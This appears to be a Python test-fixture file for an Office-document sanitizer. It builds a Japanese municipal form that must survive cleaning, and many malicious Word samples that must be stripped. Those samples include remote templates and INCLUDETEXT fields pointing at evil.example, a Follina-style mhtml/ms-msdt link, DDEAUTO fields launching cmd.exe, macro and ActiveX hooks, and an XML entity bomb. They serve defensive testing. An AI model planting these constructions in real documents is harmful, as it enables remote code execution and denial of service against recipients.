# SPDX-License-Identifier: Apache-2.0
"""The Word documents of the samples: CASES says of each how it is made, which
words its report must count, and what must (or must not) be in what leaves. The
numbers are those of the catalogue of attacks (O003 …). make_words.py makes the
parts.
"""
from decks import OLE_MARK, Case, workbook
from decks import doubled as doubled_in
from make_slides import DML, HEAD, MARKER, MS, OPEN, REL, png
from make_words import (NS, WML, Paper, box, cell, char, code, control, field, p, picture, r, row, table)

EVIL = "http://evil.example/"
MARK = MARKER.decode()
OFFICE = "本日の会議の資料です"
CHANGED = 'w:id="{}" w:author="総務課 山田" w:date="2026-11-20T09:00:00Z"'


def simple(*blocks):
    return Paper().put(p(OFFICE), *blocks)


# ---- what should survive ----------------------------------------------------

def lists():
    def level(number, kind, text):
        return (f'<w:lvl w:ilvl="{number}"><w:start w:val="1"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{text}"/>'
                f'<w:lvlJc w:val="left"/><w:pPr><w:ind w:left="{420 * (number + 1)}" w:hanging="420"/></w:pPr></w:lvl>')
    levels = [("japaneseCounting", "第%1条"), ("decimalFullWidth", "%2"), ("aiueoFullWidth", "（%3）")]
    return ('<w:abstractNum w:abstractNumId="0"><w:multiLevelType w:val="multilevel"/>' +
            "".join(level(i, *one) for i, one in enumerate(levels)) + "</w:abstractNum>"
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>')


def numbered(text, level=0):
    return p(text, props=f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>')


def ruby(text, reading):
    return ('<w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/><w:hps w:val="10"/><w:hpsRaise w:val="18"/>'
            f'<w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/></w:rubyPr><w:rt>{r(reading)}</w:rt>'
            f"<w:rubyBase>{r(text)}</w:rubyBase></w:ruby></w:r>")


def checkbox(checked, text):
    mark = "☑" if checked else "☐"
    return control('<w:alias w:val="確認"/><w14:checkbox><w14:checked w14:val="' + str(int(checked)) + '"/>'
                   '<w14:checkedState w14:val="2611" w14:font="MS Gothic"/>'
                   '<w14:uncheckedState w14:val="2610" w14:font="MS Gothic"/></w14:checkbox>',
                   r(mark)) + r(text)


def choice():
    items = "".join(f'<w:listItem w:displayText="{x}" w:value="{x}"/>' for x in ("本人", "代理人"))
    return control(f'<w:alias w:val="続柄"/><w:dropDownList>{items}</w:dropDownList>', r("本人"))


def day():
    return control('<w:alias w:val="申請日"/><w:date w:fullDate="2026-11-20T00:00:00Z"><w:dateFormat w:val="ggge年M月d日"/>'
                   '<w:lid w:val="ja-JP"/><w:storeMappedDataAs w:val="dateTime"/><w:calendar w:val="japan"/></w:date>',
                   r("令和8年11月20日"))


def old_forms():
    return p(field(" FORMTEXT ", "　　　　", '<w:ffData><w:name w:val="氏名"/><w:enabled/><w:calcOnExit w:val="0"/>'
                   '<w:textInput><w:maxLength w:val="20"/></w:textInput></w:ffData>'),
             field(" FORMCHECKBOX ", "", '<w:ffData><w:name w:val="同意"/><w:enabled/><w:calcOnExit w:val="0"/>'
                   '<w:checkBox><w:sizeAuto/><w:default w:val="0"/><w:checked/></w:checkBox></w:ffData>'),
             field(" FORMDROPDOWN ", "", '<w:ffData><w:name w:val="区分"/><w:enabled/><w:calcOnExit w:val="0"/>'
                   '<w:ddList><w:result w:val="1"/><w:listEntry w:val="新規"/><w:listEntry w:val="変更"/></w:ddList></w:ffData>'))


def circled():
    return field(["eq \\o\\ac(○,", '<w:r><w:rPr><w:position w:val="2"/></w:rPr><w:instrText>印</w:instrText></w:r>', ")"])


def application():
    """様式第１号: a form of an office."""
    grid = table(
        row(cell("申請者", 1200, '<w:vMerge w:val="restart"/><w:textDirection w:val="tbRlV"/><w:vAlign w:val="center"/>'),
            cell("住　所", 1600), cell("さくら市大字氏家２７７１番地", 5200)),
        row(cell("", 1200, "<w:vMerge/>"), cell(p(ruby("氏名", "ふりがな")), 1600),
            cell(p("辻\U000E0100村　\U00020BB7野家　", circled()), 5200)),
        row(cell("請求する書類", 2800, '<w:gridSpan w:val="2"/>'),
            cell(p(checkbox(True, "住民票の写し　"), checkbox(False, "戸籍の附票")), 5200),
            props='<w:cantSplit/><w:trHeight w:val="567" w:hRule="exact"/>'),
        row(cell("請求者との関係", 2800, '<w:gridSpan w:val="2"/>'), cell(p(choice()), 5200)),
        widths=(1200, 1600, 5200))
    tied = ('<w:fitText w:val="1680" w:id="-1"/>', '<w:eastAsianLayout w:id="5" w:combine="1" w:combineBrackets="round"/>',
            '<w:eastAsianLayout w:id="6" w:vert="1" w:vertCompress="1"/>')
    paper = Paper()
    paper.part("numbering", "numbering", lists())
    paper.part("styles", "styles", '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="游明朝" w:eastAsia="游明朝"/>'
               '<w:sz w:val="21"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" '
               'w:styleId="a"><w:name w:val="Normal"/><w:qFormat/><w:rsid w:val="00A77B3E"/></w:style>')
    paper.part("settings", "settings", '<w:documentProtection w:edit="forms" w:enforcement="1"/>'
               '<w:evenAndOddHeaders w:val="0"/><w:rsids><w:rsidRoot w:val="00A77B3E"/></w:rsids>'
               '<w:compat><w:adjustLineHeightInTable/><w:compatSetting w:name="compatibilityMode" '
               'w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat>')
    paper.add("word/media/image1.png", png(60, 60, (190, 20, 40)))
    seal = paper.relate("image", "media/image1.png")
    note = paper.part("footnotes", "footnotes", '<w:footnote w:id="2">' + p("<w:r><w:footnoteRef/></w:r>", "手数料は三百円です") +
                      "</w:footnote>")
    paper.part("comments", "comments", f'<w:comment {CHANGED.format(0)} w:initials="山">' + p("印影を確かめること") +
               "</w:comment>")
    head = paper.part("header1", "hdr", p('<w:r><w:pict><v:shape id="PowerPlusWaterMarkObject1" type="#_x0000_t136" '
                      'style="position:absolute;width:400pt;height:100pt;rotation:315" fillcolor="silver" stroked="f">'
                      '<v:textpath style="font-family:&quot;游ゴシック&quot;;font-size:1pt" string="見本"/></v:shape></w:pict></w:r>',
                      picture("rId1", "市章")), "header")
    paper.relate("image", "media/image1.png", part="word/header1.xml")
    foot = paper.part("footer1", "ftr", p(field(" PAGE  \\* MERGEFORMAT ", "1"), " / ", field("NUMPAGES", "3")), "footer")
    link = paper.relate("hyperlink", "https://www.city.example.lg.jp/todoke/", True)
    assert note
    paper.section = f'<w:headerReference w:type="default" r:id="{head}"/><w:footerReference w:type="default" r:id="{foot}"/>'
    paper.put(
        p("様式第１号（第５条関係）"), p("住民票の写し等交付申請書", props='<w:jc w:val="center"/>'), p(day()),
        p(r("さくら市長", tied[0]), r("殿　", ""), r("割注", tied[1]), r("12", tied[2])),
        grid, old_forms(), numbered("目的"), numbered("申請の方法", 1), numbered("窓口", 2),
        p("手数料", '<w:r><w:footnoteReference w:id="2"/></w:r>', picture(seal, "公印")),
        p('<w:commentRangeStart w:id="0"/>', "確認", '<w:commentRangeEnd w:id="0"/>', '<w:r><w:commentReference w:id="0"/></w:r>'),
        p(f"<w:ins {CHANGED.format(11)}>{r('追加した')}</w:ins>",
          f"<w:del {CHANGED.format(12)}><w:r><w:delText>削った</w:delText></w:r></w:del>"),
        p(r("隠した文", "<w:vanish/>"), r("影付き", '<w14:glow w14:rad="63500"><w14:srgbClr w14:val="FF0000"/></w14:glow>')),
        p(box("縦の箱", True)),
        p("<m:oMathPara><m:oMath><m:f><m:num><m:r><m:t>a</m:t></m:r></m:num><m:den><m:r><m:t>b</m:t></m:r></m:den></m:f>"
          "</m:oMath></m:oMathPara>"),
        p(f'<w:hyperlink r:id="{link}" w:tooltip="届出の案内"><w:r><w:t>案内のページ</w:t></w:r></w:hyperlink>',
          '<w:bookmarkStart w:id="90" w:name="_Toc1"/>', "見出し", '<w:bookmarkEnd w:id="90"/>',
          field(' HYPERLINK \\l "_Toc1" ', "見出しへ"), field(" PAGEREF _Toc1 \\h ", "1"),
          field(' DATE \\@ "ggge年M月d日" ', "令和8年11月20日"), field([" = ", field("PAGE", "1"), " + 1 "], "2")),
        p("縦中横の節", props='<w:sectPr><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>'
          '<w:pgMar w:top="1" w:right="1" w:bottom="1" w:left="1"/><w:textDirection w:val="tbRl"/></w:sectPr>'))
    return paper


KEPT = [
    "様式第１号（第５条関係）", "さくら市大字氏家２７７１番地", "辻\U000E0100村　\U00020BB7野家", "<w:ruby>", "ふりがな", "eq \\o\\ac(○,",
    'w:vert="1" w:vertCompress="1"', 'w:combine="1" w:combineBrackets="round"', '<w:fitText w:val="1680"',
    '<w:textDirection w:val="tbRlV"/>', '<w:textDirection w:val="tbRl"/>',
    '<w:docGrid w:type="linesAndChars" w:linePitch="360" w:charSpace="-2714"/>',
    "<w14:checkbox>", "<w:dropDownList>", 'w:displayText="代理人"', "ggge年M月d日", '<w:calendar w:val="japan"/>',
    "FORMTEXT", "FORMCHECKBOX", "FORMDROPDOWN", "<w:textInput>", '<w:listEntry w:val="変更"/>', 'string="見本"', "市章",
    "公印", "手数料は三百円です", "印影を確かめること", "総務課 山田", "追加した", "削った", "隠した文", "<w:vanish/>",
    "w14:glow", "縦の箱", '<mc:Choice Requires="wps">', 'vert="eaVert"', "<m:num>", "案内のページ",
    "https://www.city.example.lg.jp/todoke/", 'w:tooltip="届出の案内"', "PAGEREF _Toc1 \\h", "HYPERLINK \\l", "第%1条",
    '<w:documentProtection w:edit="forms" w:enforcement="1"/>', 'w:name="compatibilityMode"', "<w:adjustLineHeightInTable/>",
    "MERGEFORMAT", "NUMPAGES", '<w:vMerge w:val="restart"/>', '<w:gridSpan w:val="2"/>', "案内", "見出しへ", " + 1 "]


# ---- what must not ---------------------------------------------------------

def template(target, kind="attachedTemplate", extra=""):
    paper = simple()
    paper.part("settings", "settings", f'<w:attachedTemplate r:id="rId1"/>{extra}')
    paper.relate(kind, target, True, "word/settings.xml")
    return paper


def merge():
    paper = simple(p(field(' MERGEFIELD 氏名 ', "«氏名»")))
    paper.part("settings", "settings", '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
               f'<w:connectString w:val="Provider={MARK}"/><w:query w:val="SELECT * FROM a"/><w:dataSource r:id="rId1"/>'
               f'</w:mailMerge><w:docVars><w:docVar w:name="x" w:val="{MARK}"/></w:docVars>')
    paper.relate("mailMergeSource", "file:///\\\\evil.example\\a.mdb", True, "word/settings.xml")
    return paper


def frames():
    paper = simple()
    paper.part("webSettings", "webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')
    paper.relate("frame", EVIL + "frame.html", True, "word/webSettings.xml")
    return paper


def remote_picture():
    paper = simple()
    rid = paper.relate("image", "http://tracker.example/pixel.png?id=1", True)
    return paper.put(p(picture(rid, attribute="link")))


def linked(kind, block, target, external=True):
    paper = simple()
    rid = paper.relate(kind, target, external)
    return paper.put(block.replace("RID", rid))


def part_of(name, data, kind, block, content_type=None):
    paper = linked(kind, block, name, False)
    paper.add("word/" + name, data, content_type)
    return paper


def shown(inner, paper):
    paper.add("word/media/image1.png", png(40, 40, (30, 120, 30)))
    rid = paper.relate("image", "media/image1.png")
    return ('<w:object w:dxaOrig="1440" w:dyaOrig="960"><v:shape id="_x0000_i1025" style="width:72pt;height:48pt" '
            f'o:ole=""><v:imagedata r:id="{rid}" o:title=""/></v:shape>{inner}</w:object>')


def with_object(target, data=None, external=False, kind="oleObject", prog="Package", wrap=False):
    paper = simple()
    if data is not None:
        paper.add("word/" + target, data)
    rid = paper.relate(kind, target, external)
    how = "Link" if external else "Embed"
    inner = shown(f'<o:OLEObject Type="{how}" ProgID="{prog}" ShapeID="_x0000_i1025" DrawAspect="Icon" '
                  f'ObjectID="_1" r:id="{rid}"/>', paper)
    if wrap:
        inner = ('<mc:AlternateContent><mc:Choice xmlns:zz="urn:unknown" Requires="zz"><zz:run>' + MARK +
                 f"</zz:run></mc:Choice><mc:Fallback>{inner}</mc:Fallback></mc:AlternateContent>")
    return paper.put(p(r("", "", inner), "添付をご覧ください"))


def with_control():
    paper = simple()
    paper.add("word/activeX/activeX1.xml", f'<ax:ocx xmlns:ax="{MS}2006/activeX" ax:classid="{{{MARK}}}" '
              'ax:persistence="persistStreamInit"/>', "application/vnd.ms-office.activeX+xml")
    paper.add("word/activeX/activeX1.bin", MARKER)
    paper.relate(MS + "2006/relationships/activeXControlBinary", "activeX1.bin", False, "word/activeX/activeX1.xml")
    rid = paper.relate("control", "activeX/activeX1.xml")
    return paper.put(p(r("", "", shown(f'<w:control r:id="{rid}" w:name="Box1" w:shapeid="_x0000_i1025"/>', paper))))


def in_cell():
    """A chunk alone in a cell, which must keep a paragraph."""
    return part_of("chunk.html", "<html><script>" + MARK + "</script></html>", "aFChunk",
                   table(row(cell('<w:altChunk r:id="RID"/>'), "左に文"), widths=(2000, 2000)))


def nested():
    inner = field([' QUOTE 68 68 69 '], "DDE")
    return simple(p("前", field([' ', inner, 'AUTO c:\\\\windows\\\\', 'cmd.exe "/k ' + MARK + '"'], "最後の結果"), "後"))


def across():
    """A field whose code runs over paragraphs, and one without an end."""
    return simple("<w:p>" + r("前") + char("begin") + code(" INCLUDETEXT ") + "</w:p>",
                  p(code('"' + EVIL + MARK + '.docx"'), char("separate"), r("取り込んだ文"), char("end")),
                  p(char("begin"), code(" LINK Excel.Sheet.8 " + MARK), r("残る文")))


def spoilt():
    """A code that is another one when its tracked changes are accepted."""
    return simple(p(char("begin"), f"<w:del {CHANGED.format(1)}><w:r><w:delInstrText>PAGE</w:delInstrText></w:r></w:del>",
                    f'<w:ins {CHANGED.format(2)}>{code("DDEAUTO cmd " + MARK)}</w:ins>',
                    char("separate"), r("結果の文"), char("end")))


def macros():
    paper = Paper("application/vnd.ms-word.document.macroEnabled.main+xml").put(p(OFFICE))
    paper.add("word/vbaProject.bin", OLE_MARK, "application/vnd.ms-office.vbaProject")
    paper.relate(MS + "2006/relationships/vbaProject", "vbaProject.bin")
    paper.add("word/vbaData.xml", f'<wne:vbaSuppData xmlns:wne="{MS}word/2006/wordml"><wne:mcds><wne:mcd '
              f'wne:macroName="{MARK}"/></wne:mcds></wne:vbaSuppData>', "application/vnd.ms-word.vbaData+xml")
    paper.relate(MS + "2006/relationships/wordVbaData", "vbaData.xml", False, "word/vbaProject.bin")
    paper.add("word/customizations.xml", f'<wne:tcg xmlns:wne="{MS}word/2006/wordml"><wne:keymaps><wne:keymap '
              f'wne:kcmPrimary="0431"><wne:macro wne:macroName="{MARK}"/></wne:keymap></wne:keymaps></wne:tcg>',
              "application/vnd.ms-word.keyMapCustomizations+xml")
    paper.relate(MS + "2006/relationships/keyMapCustomizations", "customizations.xml")
    paper.part("fontTable", "fonts", '<w:font w:name="游明朝"><w:embedRegular r:id="rId1" w:fontKey="{0}"/></w:font>')
    paper.add("word/fonts/font1.odttf", MARKER)
    paper.relate("font", "fonts/font1.odttf", False, "word/fontTable.xml")
    paper.add("word/glossary/document.xml", HEAD + f"<w:glossaryDocument {NS}><w:docParts/></w:glossaryDocument>",
              WML + "document.glossary+xml")
    paper.relate("glossaryDocument", "glossary/document.xml")
    paper.add("customXml/item1.xml", f"<x>{MARK}</x>")
    paper.relate("customXml", "../customXml/item1.xml")
    paper.add("word/printerSettings1.bin", MARKER)
    paper.put(p(field(" MACROBUTTON Run 押してください ", ""), field(" FORMTEXT ", "入力", '<w:ffData><w:name w:val="a"/><w:enabled/>'
                f'<w:entryMacro w:val="{MARK}"/><w:exitMacro w:val="{MARK}"/><w:textInput/></w:ffData>')),
              control('<w:alias w:val="題"/><w:placeholder><w:docPart w:val="X"/></w:placeholder>'
                      f'<w:dataBinding w:xpath="/x" w:storeItemID="{{{MARK}}}"/><w:text/>', p("束ねた文")))
    paper.section = f'<w:printerSettings r:id="{paper.relate("printerSettings", "printerSettings1.bin")}"/>'
    return paper


def properties(*kinds):
    """Properties, to which a relationship of one of two types leads, or one of each."""
    paper = simple()
    for number, kind in enumerate(kinds, 1):
        paper.add(f"docProps/core{number}.xml", HEAD + (
            f'<cp:coreProperties xmlns:cp="{OPEN}package/2006/metadata/core-properties" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>題{number}</dc:title><dc:creator>山田</dc:creator>'
            "</cp:coreProperties>"), "application/vnd.openxmlformats-package.core-properties+xml")
    paper.add("docProps/app.xml", HEAD + (
        f'<Properties xmlns="{OPEN}officeDocument/2006/extended-properties"><Application>LibreOffice/7.4.7.2$Linux_X86_64 '
        "</Application></Properties>"), "application/vnd.openxmlformats-officedocument.extended-properties+xml")
    paper.rels[""] = [(f"rId{number + 1}", f"{OPEN}{kind}/2006/relationships/metadata/core-properties",
                       f"docProps/core{number}.xml", False) for number, kind in enumerate(kinds, 1)]
    paper.rels[""].append(("rId9", OPEN + "officeDocument/2006/relationships/extended-properties", "docProps/app.xml", False))
    return paper


def entity_bomb():
    paper = simple()
    assert paper.bytes()
    name = "word/document.xml"
    paper.bytes = lambda: paper.zip([("_rels/.rels", [("rId1", REL + "officeDocument", name, False)])])
    paper.parts[name] = paper.parts[name].replace(HEAD.encode(), (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + "A" * 1000 + '">' + "".join(
            f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefg", "bcdefgh")) + "]>").encode()).replace(
        OFFICE.encode(), b"&h;")
    return paper


def shape(href, tip):
    return f'<w:r><w:pict><v:shape style="width:9pt;height:9pt" href="{href}" title="{tip}"/></w:pict></w:r>'


SHAPES = [("HTTPS://www.city.example.jp/届", "案内"), ("file:///c:/evil.exe", "図"), (EVIL, "bank.example"), ("#上", "上へ")]


def one(text, result="最後の結果"):
    return lambda: simple(p("前", field(text, result), "後"))


def doubled(name, data):
    return doubled_in(name, data, simple())


def word(name, paper, counts=(), kept=(OFFICE,), gone=(), verdict="cleaned", suffix=".docx"):
    return Case(name, paper, counts, kept, gone, verdict, suffix)


RESULT = (OFFICE, "最後の結果", "前", "後")
CHUNK = '<w:altChunk r:id="RID"/>'
CASES = [
    word("application", application, ["unknown-element"], kept=KEPT, gone=["rsid"]),
    word("properties-of-libreoffice", lambda: properties("officedocument"), ["metadata"],
         (OFFICE, "題1", "山田", "<ep:Application>LibreOffice</ep:Application>"), ["Linux"]),
    word("properties-twice", lambda: properties("officedocument", "package"), ["metadata"], (OFFICE, "題2"), ["題1"]),
    word("O003-template-http", lambda: template(EVIL + "a.dotm"), ["external-target"], gone=["attachedTemplate", "evil.example"]),
    word("O003-template-unc", lambda: template("file:///\\\\evil.example\\share\\a.dotm"), ["external-target"],
         gone=["attachedTemplate", "evil.example"]),
    word("O003-template-mhtml", lambda: template("mhtml:" + EVIL + "a!x-usc:" + EVIL + "b"), ["external-target"],
         gone=["attachedTemplate", "evil.example"]),
    word("O004-frame", frames, gone=["frameset", "evil.example"]),
    word("O004-sub-document", lambda: linked("subDocument", p("<w:subDoc r:id=\"RID\"/>"), EVIL + "a.docx"),
         ["external-target"], gone=["subDoc", "evil.example"]),
    word("O004-file-link", lambda: linked("hyperlink", p('<w:hyperlink r:id="RID"><w:r><w:t>開く文</w:t></w:r></w:hyperlink>'),
                                          "file:///\\\\evil.example\\a.exe"), ["external-target"],
         kept=(OFFICE, "開く文"), gone=["<w:hyperlink", "evil.example"]),
    word("O004-script-link", lambda: linked("hyperlink", p('<w:hyperlink r:id="RID"><w:r><w:t>開く文</w:t></w:r></w:hyperlink>'),
                                            "ms-msdt:/id PCWDiagnostic"), ["external-target"],
         kept=(OFFICE, "開く文"), gone=["<w:hyperlink", "ms-msdt"]),
    word("O004-shape-link", lambda: simple(p(*(shape(*one) for one in SHAPES))), ["external-target", "link-text"],
         (OFFICE, 'href="https://www.city.example.jp/%E5%B1%8A"', 'title="案内"', f'href="{EVIL}"', 'href="#%E4%B8%8A"'),
         ["evil.exe", "bank"]),
    word("O004-tip", lambda: linked("hyperlink", p('<w:hyperlink r:id="RID" w:tooltip="https://bank.example/"><w:r><w:t>銀行</w:t>'
                                                   "</w:r></w:hyperlink>"), EVIL), ["link-text"],
         kept=(OFFICE, "銀行", EVIL), gone=["bank.example"]),
    word("O004-remote-picture", remote_picture, ["remote-image"], gone=["tracker.example"]),
    word("O004-merge", merge, ["external-target"], kept=(OFFICE, "«氏名»"), gone=["mailMerge", "docVar", "MERGEFIELD"]),
    word("O005-follina", lambda: with_object("mhtml:" + EVIL + "x.html!x-usc:" + EVIL + "x.html", None, True,
                                             prog="htmlfile"), ["external-target"],
         kept=(OFFICE, "添付をご覧ください", "<w:pict><v:shape"), gone=["OLEObject", "evil.example", "<w:object"]),
    word("O006-dde", one(["DDEAUTO c:\\\\windows\\\\system32\\\\", 'cmd.exe "/k calc.exe"']), ["dde"], RESULT,
         ["DDEAUTO", "calc.exe", "fldChar"]),
    word("O006-dde-split", one(["D", "D", "E", ' c:\\\\a "b"']), ["dde"], RESULT, ["fldChar", "instrText"]),
    word("O006-simple", lambda: simple(p('<w:fldSimple w:instr="DDE cmd &quot;/k calc&quot;"><w:r><w:t>最後の結果</w:t></w:r>'
                                         "</w:fldSimple>")), ["dde"], (OFFICE, "最後の結果"), ["fldSimple", "calc"]),
    word("O006-import", one(' IMPORT "' + EVIL + 'a.png" '), ["external-field"], RESULT, ["fldChar", "evil.example"]),
    word("O006-picture", one(' INCLUDEPICTURE  \\d "' + EVIL + 'a.png" '), ["external-field"], RESULT, ["evil.example"]),
    word("O006-text", across, ["external-field"], (OFFICE, "取り込んだ文"), ["INCLUDETEXT", "evil.example", "fldChar"]),
    word("O006-nested", nested, kept=RESULT, gone=["AUTO", "QUOTE", "fldChar"]),
    word("O006-changed", spoilt, ["field"], (OFFICE, "結果の文"), ["DDEAUTO", "instrText"]),
    word("O006-link", one(" HYPERLINK \"file:///c:/windows/calc.exe\" "), ["hyperlink"], RESULT, ["calc.exe"]),
    word("O006-link-other-form", one([' HYPERLINK "HTTP://www.city.example.jp/届', ' 出" \\h \\t "main" ']), [],
         (*RESULT, 'HYPERLINK "http://www.city.example.jp/%E5%B1%8A%20%E5%87%BA" <'), ["HTTP:", "\\t ", "\\h "]),
    word("O006-link-tip", one(f' HYPERLINK "{EVIL}" \\o "https://bank.example/" '), ["link-text"],
         (*RESULT, f'HYPERLINK "{EVIL}"'), ["bank.example"]),
    word("O006-macro", one(" MACROBUTTON Evil 押す ", "押す"), ["command-field"], (OFFICE, "押す"), ["MACROBUTTON"]),
    word("O006-print", one(" PRINT \\p para \"x\" "), ["command-field"], RESULT, ["PRINT"]),
    word("O006-unknown", one(" 氏名 "), ["field"], RESULT, ["fldChar"]),
    word("O007-control", with_control, ["activex"], (OFFICE, "<w:pict><v:shape"), ["w:control", "<w:object", "activeX"]),
    word("O008-package", lambda: with_object("embeddings/oleObject1.bin", OLE_MARK), ["embedded-object"],
         (OFFICE, "添付をご覧ください", "<w:pict><v:shape"), ["OLEObject", "<w:object"]),
    word("O008-equation", lambda: with_object("embeddings/oleObject1.bin", OLE_MARK, prog="Equation.3"),
         ["embedded-object"], (OFFICE, "<w:pict>"), ["OLEObject"]),
    word("O008-workbook", lambda: with_object("embeddings/book1.xlsx", workbook("CALL(1)"), False, "package",
                                              "Excel.Sheet.12"), ["embedded-object"], (OFFICE, "<w:pict>"), ["OLEObject"]),
    word("O009-html", lambda: part_of("chunk.html", "<html><script>" + MARK + "</script></html>", "aFChunk", CHUNK),
         ["embedded-object"], gone=["altChunk"]),
    word("O009-rtf", lambda: part_of("chunk.rtf", "{\\rtf1{\\object\\objdata " + MARK + "}}", "aFChunk", CHUNK),
         ["embedded-object"], gone=["altChunk"]),
    word("O009-mht", lambda: part_of("chunk.mht", "MIME-Version: 1.0\n\n" + MARK, "aFChunk", CHUNK),
         ["embedded-object"], gone=["altChunk"]),
    word("O009-cell", in_cell, ["embedded-object"], (OFFICE, "左に文", "</w:tcPr><w:p/></w:tc>"), ["altChunk"]),
    word("O001-macros", macros, ["vba-project", "custom-ui", "custom-xml", "printer-settings", "font-data", "command-field",
                                 "data-binding"], (OFFICE, "束ねた文", "入力", "FORMTEXT", "押してください"),
         ["entryMacro", "exitMacro", "MACROBUTTON", "dataBinding", "embedRegular", "placeholder"], suffix=".docm"),
    word("O030-renamed", macros, ["vba-project"], gone=["entryMacro"]),
    word("O033-branches", lambda: with_object("embeddings/oleObject1.bin", OLE_MARK, wrap=True), ["embedded-object"],
         (OFFICE, "<w:pict>"), ["urn:unknown", "OLEObject", "mc:Fallback"]),
    word("O012-orphan", lambda: doubled("word/media/orphan.xml", b"<x>" + MARKER + b"</x>")),
    word("O010-double", lambda: doubled("word/document.xml", b"<x/>"), verdict="removed"),
    word("O010-case", lambda: doubled("Word/Document.xml", b"<x/>"), verdict="removed"),
    word("O011-piece", lambda: doubled("word/document.xml/[0].piece", b"<x/>"), verdict="removed"),
    word("O015-entities", entity_bomb, verdict="removed"),
    word("O016-deep", lambda: simple("<w:sdt><w:sdtContent>" * 1500 + p("x") + "</w:sdtContent></w:sdt>" * 1500),
         verdict="removed"),
    word("O031-prefix", lambda: b"<html><script>" + MARKER + b"</script></html>" + simple().bytes(), verdict="removed"),
]
assert DML
